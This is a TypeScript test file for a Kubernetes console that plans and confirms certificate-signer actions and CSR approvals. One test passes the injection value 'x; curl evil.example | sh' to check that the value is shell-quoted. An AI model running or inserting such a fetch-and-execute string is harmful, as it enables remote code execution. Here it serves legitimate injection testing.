// SPDX-License-Identifier: Apache-2.0
/** What an action writes, and when it writes nothing, by the requests that it sends. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { PREPARE_AT } from '#api/signer/rotation-annotations.ts';
import { planAction } from '#console/acting/plan-action.ts';
import type { ActionChoice, PlannedAction } from '#console/acting/action.ts';
import { KubeError } from '#kube/client/kube-error.ts';
import type { RequestInit } from '#kube/client/client.ts';
import type { SignerState } from '#operations/signer-state.ts';
import { recordedClient } from '../support/kube/recorded-client.ts';
import { MINUTE, NOW, at, print, state } from '../operations/signer-states.ts';

const CONFIRM = { message: '', progress: () => undefined, signal: new AbortController().signal };

const NONE = { kind: 'List', apiVersion: 'v1', metadata: {}, items: [] };

/** A cluster of one signer, or of one request, and the writes that it received. */
function stand() {
  const client = recordedClient();
  let [now, signer, csr] = [NOW, state(), request('uid-1')];
  client.answer(({ method, path }) => {
    if (method !== 'GET') return {};
    if (path.includes('/certificatesigningrequests/')) return csr;
    if (path.includes('/clustersigners/')) return signer.signer;
    if (path.includes('/clustertrustbundles/')) return signer.bundle;
    if (path.endsWith('/clustersigners')) return NONE;
    throw new KubeError({ status: 404, what: path });
  });
  return {
    init: { client, clock: () => now, delay: () => Promise.resolve(), propagationSeconds: 600 },
    /** Writes that the API server stores. */
    stored: (): readonly RequestInit[] =>
      client.requests.filter(
        ({ method, query }) => method !== 'GET' && query?.['dryRun'] !== 'All',
      ),
    pass: (milliseconds: number) => (now += milliseconds),
    become: (other: SignerState) => (signer = other),
    replace: (other: typeof csr) => (csr = other),
  };
}

function request(uid: string, conditions: readonly object[] = []) {
  return {
    apiVersion: 'certificates.k8s.io/v1',
    kind: 'CertificateSigningRequest',
    metadata: { name: 'alice', uid, resourceVersion: uid, creationTimestamp: at(-MINUTE) },
    spec: { request: '', signerName: 'example.com/none', usages: [], username: 'alice' },
    status: { conditions },
  };
}

async function planned(
  { init }: Pick<ReturnType<typeof stand>, 'init'>,
  choice: ActionChoice,
): Promise<PlannedAction> {
  return (await planAction(init, choice)) ?? assert.fail('no plan');
}

const PREPARE = { verb: 'prepare', signer: 'workload' } as const;
const APPROVE = { verb: 'approve', subject: 'csr/alice' } as const;

test('a plan stores nothing, and has the API server judge the permission', async () => {
  for (const choice of [PREPARE, APPROVE]) {
    const it = stand();
    const { plan } = await planned(it, choice);
    assert.equal(plan.isReady, true);
    assert.deepEqual(it.stored(), []);
    assert.ok(it.init.client.requests.some(({ query }) => query?.['dryRun'] === 'All'));
  }
});

test('a confirmed plan writes the annotation for the time of the confirmation', async () => {
  const it = stand();
  const { plan, run } = await planned(it, PREPARE);
  assert.match(plan.lines.join('\n'), /would be changed/);
  it.pass(5 * MINUTE);
  assert.equal((await run(CONFIRM)).outcome, 'done');
  const [write, ...more] = it.stored();
  assert.deepEqual(more, []);
  const body = write?.body as { metadata: { annotations: object; resourceVersion: string } };
  assert.deepEqual(body.metadata.annotations, { [PREPARE_AT]: at(5 * MINUTE) });
  assert.equal(body.metadata.resourceVersion, '1');
});

const CHANGES: readonly [what: string, choice: ActionChoice, other: SignerState][] = [
  ['a CA was prepared meanwhile', PREPARE, state({ authorities: { a: 'Active', b: 'Prepared' } })],
  [
    'the CA to taint signs no more',
    { verb: 'taint', signer: 'workload', ca: print('a') },
    state({ authorities: { b: 'Active', a: 'Retiring' } }),
  ],
  ['the component is behind', PREPARE, state({ observed: 0 })],
];
for (const [what, choice, other] of CHANGES)
  test(`${what}: the plan is out of date, and nothing is written`, async () => {
    const it = stand();
    const { run } = await planned(it, choice);
    it.become(other);
    const { outcome, lines } = await run(CONFIRM);
    assert.equal(outcome, 'outdated');
    assert.match(lines.join('\n'), /out of date/);
    assert.deepEqual(it.stored(), []);
  });

test('a refused plan is not ready, and names the refusals of the command', async () => {
  const { plan } = await planned(stand(), { verb: 'revoke', signer: 'workload', ca: print('a') });
  assert.equal(plan.isReady, false);
  assert.match(plan.lines.join('\n'), /refused: .* is active/);
});

test('an approval that helps no request is not ready, and says why', async () => {
  const it = stand();
  const csr = request('uid-1');
  it.replace({ ...csr, spec: { ...csr.spec, signerName: 'signers.countersign.dev/team-a.web' } });
  const { plan } = await planned(it, APPROVE);
  assert.equal(plan.isReady, false);
  assert.match(plan.lines.join('\n'), /no component of Countersign answers the request, even if/);
  const { plan: denial } = await planned(it, { ...APPROVE, verb: 'deny' });
  assert.equal(denial.isReady, true);
});

test('an approval of a request for another program shows the notice', async () => {
  const { plan } = await planned(stand(), APPROVE);
  assert.equal(plan.isReady, true);
  assert.match(plan.lines.join('\n'), /approve it if another program serves that name/);
});

test('a CA that still signs: no pod may be evicted', async () => {
  const choice = { verb: 'restart', signer: 'workload', ca: print('a') } as const;
  const it = stand();
  const { plan } = await planned(it, choice);
  assert.equal(plan.isReady, false);
  assert.match(plan.lines.join('\n'), /still signs/);
});

test('a decision writes the message that the person wrote', async () => {
  const it = stand();
  const { run } = await planned(it, APPROVE);
  assert.equal((await run({ ...CONFIRM, message: 'seen her badge' })).outcome, 'done');
  const [write] = it.stored();
  assert.match(write?.path ?? '', /certificatesigningrequests\/alice\/approval$/);
  const { status } = write?.body as ReturnType<typeof request>;
  assert.match(JSON.stringify(status.conditions), /"Approved".*seen her badge/);
});

const OTHERS: readonly [what: string, other: ReturnType<typeof request>][] = [
  ['another request has the name', request('uid-2')],
  ['it was denied meanwhile', request('uid-1', [{ type: 'Denied', status: 'True' }])],
  ['it was approved meanwhile', request('uid-1', [{ type: 'Approved', status: 'True' }])],
];
for (const [what, other] of OTHERS)
  test(`${what}: the decision is out of date`, async () => {
    const it = stand();
    const { run } = await planned(it, APPROVE);
    it.replace(other);
    assert.equal((await run(CONFIRM)).outcome, 'outdated');
    assert.deepEqual(it.stored(), []);
  });

test('a conflict of the write says that the plan is out of date', async () => {
  const it = stand();
  const { run } = await planned(it, APPROVE);
  it.init.client.answer(({ method, path, query }) => {
    if (method === 'GET') return path.endsWith('/clustersigners') ? NONE : request('uid-1');
    if (query?.['dryRun'] === 'All') return {};
    throw new KubeError({ status: 409, what: 'PUT', body: { reason: 'Conflict' } });
  });
  assert.equal((await run(CONFIRM)).outcome, 'outdated');
});

test('a CA of the address is one word of the command', async () => {
  const ca = 'x; curl evil.example | sh';
  for (const verb of ['activate', 'taint', 'revoke', 'restart'] as const) {
    const { plan } = await planned(stand(), { verb, signer: 'workload', ca });
    assert.ok(plan.command.includes(` 'x; curl evil.example | sh'`), plan.command);
  }
});

test('an address without what the verb acts on has no plan', async () => {
  const wrong: ActionChoice[] = [
    { verb: 'approve' },
    { verb: 'approve', subject: 'pcr/web' },
    { verb: 'deny', subject: 'csr/a/b' },
    { verb: 'deny', subject: 'toString/a' },
    { verb: 'prepare' },
    { verb: 'prepare', signer: 'workload', ca: print('a') },
    { verb: 'taint', signer: 'workload' },
    { verb: 'restart', signer: 'workload' },
  ];
  for (const choice of wrong) {
    const it = stand();
    assert.equal(await planAction(it.init, choice), undefined, JSON.stringify(choice));
    assert.deepEqual(it.stored(), []);
  }
});
